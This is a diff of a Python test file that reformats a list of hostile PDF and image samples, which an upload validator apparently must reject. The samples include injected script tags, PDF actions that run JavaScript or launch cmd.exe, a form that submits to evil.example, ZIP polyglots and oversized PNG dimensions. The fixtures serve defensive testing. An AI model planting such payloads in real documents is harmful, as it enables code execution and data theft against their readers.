@@ -65,19 +65,33 @@ def png_declaring(width: int, height: int) -> bytes:
 
 # (what, the content, the rule it breaks)
 REFUSED = [
-    ("a web page after a PDF header", PROOF_PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n<html><script>alert(1)</script>\n"),
-     MALFORMED),
-    ("a script in a comment after the header", PROOF_PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%<script>alert(1)</script>\n"),
-     MALFORMED),
+    (
+        "a web page after a PDF header",
+        PROOF_PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n<html><script>alert(1)</script>\n"),
+        MALFORMED,
+    ),
+    (
+        "a script in a comment after the header",
+        PROOF_PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%<script>alert(1)</script>\n"),
+        MALFORMED,
+    ),
     ("a PDF header and nothing a reader can read", b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n", MALFORMED),
     ("JavaScript run on opening", catalog_with(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), ACTIVE_CONTENT),
-    ("JavaScript in the name tree, its name escaped", catalog_with(b"/Names<</J#61vaScript 4 0 R>>", b"<</Names[]>>"),
-     ACTIVE_CONTENT),
+    (
+        "JavaScript in the name tree, its name escaped",
+        catalog_with(b"/Names<</J#61vaScript 4 0 R>>", b"<</Names[]>>"),
+        ACTIVE_CONTENT,
+    ),
     ("a program launched on opening", catalog_with(b"/OpenAction 4 0 R", b"<</S/Launch/F(cmd.exe)>>"), ACTIVE_CONTENT),
     ("an embedded file", catalog_with(b"/Names<</EmbeddedFiles 4 0 R>>", b"<</Names[]>>"), ACTIVE_CONTENT),
     ("a form that submits itself", catalog_with(b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>"), ACTIVE_CONTENT),
-    ("an encrypted PDF", pdf_document(b"<</Type/Catalog/Pages 2 0 R>>", *PAGES).replace(
-        b"/Root 1 0 R>>", b"/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -4>>>>"), ENCRYPTED),
+    (
+        "an encrypted PDF",
+        pdf_document(b"<</Type/Catalog/Pages 2 0 R>>", *PAGES).replace(
+            b"/Root 1 0 R>>", b"/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -4>>>>"
+        ),
+        ENCRYPTED,
+    ),
     ("a ZIP after a PDF's %%EOF", PROOF_PDF + a_zip(), TRAILING_DATA),
     ("a ZIP after a PNG", image("PNG") + a_zip(), TRAILING_DATA),
     ("a ZIP after a JPEG", image("JPEG") + a_zip(), TRAILING_DATA),
@@ -86,7 +100,7 @@ REFUSED = [
     ("a PNG with a damaged chunk", image("PNG").replace(b"IDAT", b"IDAt"), MALFORMED),
     ("a PNG declaring 60 million pixels", png_declaring(10_000, 6_000), IMAGE_DIMENSIONS),
     ("a PNG declaring 10 billion pixels", png_declaring(100_000, 100_000), IMAGE_DIMENSIONS),
-]  # fmt: skip
+]
 
 
 @pytest.mark.parametrize(("what", "content", "rule"), REFUSED, ids=[what for what, *_ in REFUSED])
